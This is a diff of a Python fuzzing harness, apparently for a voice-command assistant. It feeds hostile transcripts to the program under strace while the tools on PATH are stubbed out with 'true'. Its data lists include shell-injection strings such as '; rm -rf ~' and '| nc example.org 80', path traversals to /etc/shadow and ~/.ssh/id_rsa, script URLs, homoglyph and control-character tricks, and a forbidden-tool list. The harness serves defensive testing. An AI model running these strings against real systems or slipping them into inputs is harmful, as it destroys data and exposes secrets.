@@ -1,14 +1,15 @@
-"""Hostile transcripts, carried through the real program while every process that it starts and file that it writes is traced.
+"""Hostile transcripts, carried through the real program while each process that it starts and each file is traced.
 
 `attack` starts `python -m tests.hostile COUNT SEED` under strace, in a home of its own, without a display. There, each
-transcript is routed, judged by the policy and performed as `aihear ask` does it; and put as a slot's value into the
-intents that take free text. Programs are real processes, started by acting/programs.py: PATH is a folder in which the
-names of all tools that plugins know, and of many that they must never start (sh, rm, curl …), are links to `true`.
-Only typing is a dry run: it needs a screen.
+transcript is routed, judged by the policy and performed as `aihear ask` does it; every third is put as a slot's value
+into an intent that takes free text. Programs are real processes, started by acting/programs.py: PATH is a folder in
+which the names of all tools that plugins know, and of many that they must never start (sh, rm, curl …), are links to
+`true`. Only typing is a dry run: it needs a screen.
 """
 
 from __future__ import annotations
 
+import functools
 import json
 import os
 import random
@@ -30,8 +31,11 @@ from . import rigs
 
 LONG = 10_000  # characters
 HUNG_S = 20  # for one transcript: then it is a fault
-FORBIDDEN = "sh bash dash zsh env rm touch id nc curl wget python3 perl sudo su kill dd mv cp cat tee eval xargs ssh".split()
-OWN = {"rsync", "logger", "viewer"}
+FORBIDDEN = (
+    "sh", "bash", "dash", "zsh", "env", "rm", "touch", "id", "nc", "curl", "wget", "python3", "perl", "sudo", "su",
+    "kill", "dd", "mv", "cp", "cat", "tee", "xargs", "ssh",
+)  # fmt: skip
+OWN = ("rsync", "logger", "viewer")
 SETTINGS = """
 [plugin.commands.own.backup]
 say = ["back up my {folder}"]
@@ -46,43 +50,54 @@ say = ["view file {file}"]
 run = ["viewer", "--plain", "{file}"]
 slots = { file = "path" }
 """
-ENTRIES = {
-    "sketch": "Name=Sketch Pad\nExec=sketchpad --new %U",
-    "player": "Name=Player\nExec=player",
-}
+ENTRIES = {"sketch": "Name=Sketch Pad\nExec=sketchpad --new %U", "player": "Name=Player\nExec=player"}
 STARTED = {"sketchpad": ["--new"], "player": []}
 
 # What is hostile
 
 SHELL = (
-    "; rm -rf ~", "$(touch /tmp/owned)", "`id`", "| nc example.org 80", "&& reboot", "> /etc/passwd", "< /dev/zero", "$HOME",
-    "${IFS}rm${IFS}-rf", "'; rm x; '", '"; rm x; "', "\\", "!!", "*", "?", "~/.ssh/id_rsa", "%PATH%", "a\nrm -rf ~\n", "& sh &",
-    "sh -c id", "bash", "/bin/sh", "python3 -c 'import os'", "sudo reboot", "reboot", "poweroff", "rm", "env sh", "x;sh", "$(sh)",
+    "; rm -rf ~", "$(touch /tmp/owned)", "`id`", "| nc example.org 80", "&& reboot", "> /etc/passwd", "< /dev/zero",
+    "$HOME", "${IFS}rm${IFS}-rf", "'; rm x; '", '"; rm x; "', "\\", "!!", "*", "?", "~/.ssh/id_rsa", "%PATH%", "& sh &",
+    "a\nrm -rf ~\n", "sh -c id", "bash", "/bin/sh", "python3 -c 'import os'", "sudo reboot", "reboot", "poweroff", "rm",
+    "env sh", "x;sh", "$(sh)",
 )  # fmt: skip
-DASHES = ("-rf", "--help", "--exec=sh", "-c id", "--", "-", "−rf", "–e sh", "——version", "﹣x", "－rf", " -rf", "\u200b-rf", "\t-rf")
+DASHES = (
+    "-rf", "--help", "--exec=sh", "-c id", "--", "-", "−rf", "–e sh", "——version", "﹣x", "－rf", " -rf", "\u200b-rf",
+    "\t-rf",
+)  # fmt: skip
 PATHS = (
-    "../../etc/passwd", "/etc/shadow", "~root/.bashrc", "file:///etc/passwd", "..\\..\\windows", "C:\\Windows", "//host/share",
-    "%2e%2e%2fetc", "．．／etc／passwd", "..", ".", "/", "a/../../b", ".bashrc", ".desktop", "con", "nul", "a" * 300 + ".txt",
-    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://user@example.org/$(id)", "about:config", "..％2f",
-    "\\\\host\\share", "/dev/sda", "/proc/self/environ", "....//....//etc", "notes/../../../../../etc/cron.d/x",
+    "../../etc/passwd", "/etc/shadow", "~root/.bashrc", "file:///etc/passwd", "..\\..\\windows", "C:\\Windows",
+    "//host/share", "．．／etc／passwd", "..", ".", "/", "a/../../b", ".bashrc", ".desktop", "con",
+    "nul", "a" * 300 + ".txt", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "..％2f",
+    "about:config", "http://user@example.org/$(id)", "\\\\host\\share", "/dev/sda", "/proc/self/environ",
+    "....//....//etc",
+    "notes/../../../../../etc/cron.d/x", "%2e%2e%2fetc",
 )  # fmt: skip
 LOOKS = (
-    "оpen the tеrminal", "ｒｍ　－ｒｆ", "ⅿute", "\u202etxt.exe", "\u2066open\u2069", "o\u200bpen the browser", "ѕhut down", "ᴏpen", "a\u0301" * 40,
-    "\u2044etc\u2044passwd", "∕etc∕passwd", "；rm", "＄（id）", "‚rm‘", "\u00a0", "\u3000", "\ufeff", "🏴\u200d☠️", "שלום; rm", "\u0640" * 20, "İstanbul ſs ß",
+    "оpen the tеrminal", "ｒｍ　－ｒｆ", "ⅿute", "\u202etxt.exe", "\u2066open\u2069", "o\u200bpen the browser",
+    "ѕhut down", "ᴏpen", "a\u0301" * 40, "\u2044etc\u2044passwd", "∕etc∕passwd", "；rm", "＄（id）", "‚rm‘", "\u00a0",
+    "\u3000", "\ufeff", "🏴\u200d☠️", "שלום; rm", "\u0640" * 20, "İstanbul ſs ß",
 )  # fmt: skip
 CONTROL = (
-    "\x00", "a\x00b", "\x1b[2J", "\x1b]0;x\x07", "\r\n", "\x07", "\x7f", "\x08" * 9, "\u2028", "\x85", "\x0b", "\ud800", "\udcff", "\x03", "\x04", "\x1a",
+    "\x00", "a\x00b", "\x1b[2J", "\x1b]0;x\x07", "\r\n", "\x07", "\x7f", "\x08" * 9, "\u2028", "\x85", "\x0b", "\ud800",
+    "\udcff", "\x03", "\x04", "\x1a",
 )  # fmt: skip
 BRACES = (
-    "{0}", "{text}", "{__class__}", "{0.__class__.__mro__}", "%s%s%n", "%(x)s", "{", "}", "{{", "{}", "$text", "<rule>", "<stell>", "[x]", "(a|b)",
-    "{text:label}", "{program}", "(", ")", "[", "]", "|", "<", ">", "{percent}", "{file}", "\\N{BEL}", "{{7*7}}", "((((", "[[[[", "(a|(b|(c|d",
+    "{0}", "{text}", "{__class__}", "{0.__class__.__mro__}", "%s%s%n", "%(x)s", "{", "}", "{{", "{}", "$text", "<rule>",
+    "<stell>", "[x]", "(a|b)", "{text:label}", "{program}", "(", ")", "[", "]", "|", "<", ">", "{percent}", "{file}",
+    "\\N{BEL}", "{{7*7}}", "((((", "[[[[", "(a|(b|(c|d",
 )  # fmt: skip
 FAMILIES = (SHELL, DASHES, PATHS, LOOKS, CONTROL, BRACES)
 CARRIERS = (
-    "open {}", "open the browser {}", "start {} please", "close {}", "switch to {}", "type {}", "spell {}", "remind me to {} at seven", "set a {} timer for ten minutes",
-    "timer {}", "volume {}", "press {}", "log entry {}", "view file {}", "back up my {}", "back up my photos {}", "correct {} to {}", "help with {}", "snake case {}",
-    "check my pronunciation of {}", "add {} to the shopping list", "take a note {}", "search for {}", "search the web for {}", "go to {}", "what is {}", "how much is {}",
-    "translate {}", "öffne {}", "schreib {}", "erinnere mich um sieben an {}", "abre {}", "escribe {}", "ouvre {}", "écris {}", "打开{}", "输入{}", "提醒我明天{}", "hey jarvis {}", "{}",
+    "open {}", "open the browser {}", "start {} please", "close {}", "switch to {}", "type {}", "spell {}", "timer {}",
+    "remind me to {} at seven", "set a {} timer for ten minutes", "volume {}", "press {}", "log entry {}",
+    "view file {}",
+    "back up my {}", "back up my photos {}", "correct {} to {}", "help with {}", "snake case {}", "go to {}",
+    "check my pronunciation of {}", "add {} to the shopping list", "take a note {}", "search for {}", "what is {}",
+    "search the web for {}", "how much is {}", "translate {}", "öffne {}", "schreib {}",
+    "erinnere mich um sieben an {}",
+    "abre {}", "escribe {}", "ouvre {}", "écris {}", "打开{}", "输入{}", "提醒我明天{}", "hey jarvis {}", "{}",
+    "open the browser", "open sketch pad", "back up my photos",
 )  # fmt: skip
 LANGUAGES = ("en", "de", "es", "fr", "zh", "", "xx")
 
@@ -91,21 +106,20 @@ def piece(chance: random.Random) -> str:
     if chance.random() < 0.03:
         unit = chance.choice(chance.choice(FAMILIES)) + chance.choice(("", " ", "a", "一", "5 "))
         return (unit * LONG)[:LONG]
-    return chance.choice((" ", "", "; ")).join(
-        chance.choice(chance.choice(FAMILIES)) for _ in range(chance.choice((1, 1, 1, 2, 3)))
-    )
+    several = [chance.choice(chance.choice(FAMILIES)) for _ in range(chance.choice((1, 1, 1, 2, 3)))]
+    return chance.choice((" ", "", "; ")).join(several)
 
 
 def transcript(chance: random.Random) -> tuple[str, str]:
     """The text, and the language it is taken for."""
-    carrier = chance.choice(CARRIERS)
-    text = carrier.replace("{}", piece(chance)) if chance.random() < 0.9 else _scrambled(chance)
+    text = chance.choice(CARRIERS).replace("{}", piece(chance)) if chance.random() < 0.9 else _scrambled(chance)
     return text, chance.choice(LANGUAGES)
 
 
 def _scrambled(chance: random.Random) -> str:
     """Any characters at all."""
-    return "".join(chr(chance.choice((chance.randrange(128), chance.randrange(0x3000), chance.randrange(0x110000)))) for _ in range(chance.randrange(1, 60)))  # fmt: skip
+    most = (0x80, 0x3000, 0x110000)
+    return "".join(chr(chance.randrange(chance.choice(most))) for _ in range(chance.randrange(1, 60)))
 
 
 # The child: it is traced
@@ -132,19 +146,21 @@ def _attacked(count: int, seed: int) -> _Tally:
     tally = _Tally(Counter(free_text_slots=len(slots)))
     signal.signal(signal.SIGALRM, _hung)
     for number in range(count):
+        if number % 3:
+            what, language = transcript(chance)
+            work = functools.partial(_say, mind, what, language)
+        else:
+            match, name = slots[(seed + number // 3) % len(slots)]
+            text = piece(chance)
+            what = f"{match.plugin}.{match.intent} {name}={text}"
+            work = functools.partial(_fill, mind, match, name, text)
         signal.alarm(HUNG_S)
         started = time.monotonic()
-        if number % 3:
-            text, language = transcript(chance)
-            _guarded(tally, text, lambda text=text, language=language: _say(mind, text, language))
-        else:
-            match, name = slots[number // 3 % len(slots)]
-            text = piece(chance)
-            _guarded(tally, f"{match.plugin}.{match.intent} {name}={text}", lambda text=text, match=match, name=name: _fill(mind, match, name, text))  # fmt: skip
+        _guarded(tally, what, work)
         took = time.monotonic() - started
-        if took > tally.slowest:
-            tally.slowest, tally.slowest_text = took, text[:80]
         signal.alarm(0)
+        if took > tally.slowest:
+            tally.slowest, tally.slowest_text = took, what[:80]
     return tally
 
 
@@ -160,6 +176,7 @@ def _guarded(tally: _Tally, what: str, work: Any) -> None:
     except AihearError as error:
         tally.counts[f"refused: {error.code}"] += 1
     except Exception:  # that is what is looked for
+        tally.counts["fault"] += 1
         tally.faults.append(f"{what[:200]!r}: {traceback.format_exc()[-1500:]}")
 
 
@@ -191,15 +208,13 @@ def _free_text(mind: Any) -> Iterator[tuple[Any, str]]:
     marker = "something"
     for plugin in mind.by_name.values():
         for language, grammar in plugin.grammars.items():
-            for intent, sentences in grammar.sentences.items():
-                for sentence in sentences:
-                    said = templates.plainest(sentence, grammar, language).replace("…", marker)
-                    for purpose in plugin.intents[intent].purposes:
-                        match = mind.router.route(said, language, purpose)
-                        if match is None or (match.plugin, match.intent) != (plugin.name, intent):
-                            continue
-                        if mind.verdict(match) == "allow":
-                            yield from ((match, name) for name, value in match.slots.items() if marker in str(value))
+            for intent, sentence in ((name, sentence) for name, all_ in grammar.sentences.items() for sentence in all_):
+                said = templates.plainest(sentence, grammar, language).replace("…", marker)
+                for purpose in plugin.intents[intent].purposes:
+                    match = mind.router.route(said, language, purpose)
+                    meant = match is not None and (match.plugin, match.intent) == (plugin.name, intent)
+                    if meant and mind.verdict(match) == "allow":
+                        yield from ((match, name) for name, value in match.slots.items() if marker in str(value))
 
 
 # The parent: it traces
@@ -216,49 +231,73 @@ class Result:
 
 
 def attack(folder: Path, count: int, seed: int, timeout: float) -> Result:
-    rigs.need("strace")
     home, log = folder / "home", folder / "trace"
     programs = _programs(folder / "bin")
-    config = home / ".config/aihear/settings.toml"
-    for path, text in ((config, SETTINGS), *((home / f".local/share/applications/{n}.desktop", f"[Desktop Entry]\nType=Application\n{e}\n") for n, e in ENTRIES.items())):  # fmt: skip
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text, encoding="utf-8")
+    _write(home / ".config/aihear/settings.toml", SETTINGS)
+    for name, entry in ENTRIES.items():
+        path = home / f".local/share/applications/{name}.desktop"
+        _write(path, f"[Desktop Entry]\nType=Application\n{entry}\n")
     temporary = home / "tmp"
     temporary.mkdir()
     environment = {
-        "HOME": str(home), "PATH": str(programs), "TMPDIR": str(temporary), "LANG": "C.UTF-8", "PYTHONDONTWRITEBYTECODE": "1",
-        "PYTHONPATH": str(Path(__file__).parents[1]), "XDG_DATA_DIRS": str(folder / "none"), "XDG_RUNTIME_DIR": str(temporary),
-    }  # fmt: skip
-    calls = "execve,execveat,open,openat,creat,mkdir,mkdirat,rename,renameat,renameat2,unlink,unlinkat,rmdir,link,linkat,symlink,symlinkat,truncate,chmod,fchmodat"  # fmt: skip
-    traced = ["strace", "-f", "-qq", "--seccomp-bpf", "-xx", "-s", str(4 * LONG), "-e", f"trace={calls}", "-e", "signal=none", "-o", str(log)]  # fmt: skip
-    command = [sys.executable, "-X", "utf8", "-m", "tests.hostile", str(count), str(seed)]
-    done = subprocess.run([shutil.which("strace") or "strace", *traced[1:], *command], env=environment, cwd=home, capture_output=True, text=True, timeout=timeout, check=False)  # fmt: skip
+        "HOME": str(home),
+        "PATH": str(programs),
+        "TMPDIR": str(temporary),
+        "LANG": "C.UTF-8",
+        "PYTHONDONTWRITEBYTECODE": "1",
+        "PYTHONPATH": str(Path(__file__).parents[1]),
+        "XDG_DATA_DIRS": str(folder / "none"),
+        "XDG_RUNTIME_DIR": str(temporary),
+    }
+    command = [*strace(log), sys.executable, "-X", "utf8", "-m", "tests.hostile", str(count), str(seed)]
+    done = subprocess.run(
+        command, env=environment, cwd=home, capture_output=True, text=True, timeout=timeout, check=False
+    )
     assert done.returncode == 0, done.stderr[-3000:]
     argvs, written = read_trace(log)
     return Result(argvs[1:], written, json.loads(done.stdout.splitlines()[-1]), home)
 
 
+def strace(log: Path) -> list[str]:
+    """Follows every thread and child; tells each program that is started, and each call that may change a file."""
+    rigs.need("strace")
+    calls = (
+        "execve", "execveat", "open", "openat", "creat", "mkdir", "mkdirat", "rename", "renameat", "renameat2",
+        "unlink", "unlinkat", "rmdir", "link", "linkat", "symlink", "symlinkat", "truncate", "chmod", "fchmodat",
+    )  # fmt: skip
+    whole = ["-xx", "-s", str(4 * LONG)]  # texts in hexadecimal, and not cut
+    where = ["-e", f"trace={','.join(calls)}", "-e", "signal=none", "-o", str(log)]
+    return [str(shutil.which("strace")), "-f", "-qq", "--seccomp-bpf", *whole, *where]
+
+
+def _write(path: Path, text: str) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+
+
 def _programs(folder: Path) -> Path:
     folder.mkdir(parents=True)
-    true = shutil.which("true")
-    for name in sorted(known_tools() | OWN | STARTED.keys() | set(FORBIDDEN)):
-        (folder / name).symlink_to(str(true))
+    true = str(shutil.which("true"))
+    for name in sorted({*known_tools(), *OWN, *STARTED, *FORBIDDEN}):
+        (folder / name).symlink_to(true)
     return folder
 
 
-def known_tools() -> set[str]:
+@functools.cache
+def known_tools() -> frozenset[str]:
     """The programs that the commands plugin may start, by its own table."""
     tools = tomllib.loads((Path(__file__).parents[1] / "plugins/commands/tools.toml").read_text(encoding="utf-8"))
     programs = {name for names in tools["programs"].values() for name in names}
     groups = (group for key, group in tools.items() if key not in ("programs", "names"))
-    return programs | {argv[0] for group in groups for argvs in group.values() for argv in argvs}
+    return frozenset(programs | {argv[0] for group in groups for argvs in group.values() for argv in argvs})
 
 
-_CALL = re.compile(r"^(?:\d+\s+)?(?P<name>\w+)\((?P<rest>.*)$")
+_CALL = re.compile(r"(?:\d+\s+)?(?P<name>\w+)\((?P<rest>.*)")
 _TEXT = re.compile(r'"((?:\\x[0-9a-f]{2})*)"')
 
 
 def read_trace(log: Path) -> tuple[list[list[str]], list[str]]:
+    """The argument list of each program that was started, and each path opened to be written, made or moved."""
     argvs: list[list[str]] = []
     written: list[str] = []
     for line in log.read_text(encoding="ascii", errors="replace").splitlines():
@@ -279,8 +318,5 @@ def _unhex(text: str) -> str:
 
 
 if __name__ == "__main__":
-    tally = _attacked(int(sys.argv[1]), int(sys.argv[2]))
-    told = {"counts": tally.counts, "faults": tally.faults, "slowest": tally.slowest, "slowest_text": tally.slowest_text}
-    print(json.dumps(told))
-    sys.stdout.flush()
+    print(json.dumps(vars(_attacked(int(sys.argv[1]), int(sys.argv[2])))), flush=True)
     os._exit(0)  # programs that were started may still be waited for
